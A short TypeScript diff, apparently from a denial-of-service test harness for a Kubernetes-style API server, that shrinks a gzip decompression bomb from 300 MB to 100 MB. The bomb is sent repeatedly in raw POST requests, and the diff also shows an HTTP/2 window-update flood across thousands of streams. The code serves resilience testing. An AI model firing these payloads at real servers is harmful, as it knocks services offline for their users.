@@ -138,7 +138,7 @@ export const rawAttacks: Record<string, Attack> = {
     ...streams(5000).map(() => frame(FRAME.windowUpdate, 0, 1, Buffer.from([0, 0, 0, 1]))),
   ]),
   'gzip bombs': async ({ port, times }) => {
-    const bomb = gzipSync(Buffer.alloc(300 * 1024 * 1024));
+    const bomb = gzipSync(Buffer.alloc(100 * 1024 * 1024));
     for (let i = 0; i < times; i++) {
       const head = `POST /apis/authorization.k8s.io/v1/selfsubjectaccessreviews HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: ${bomb.length}\r\n\r\n`;
       await blurt(await connect(port, 'http/1.1'), [head, bomb]);
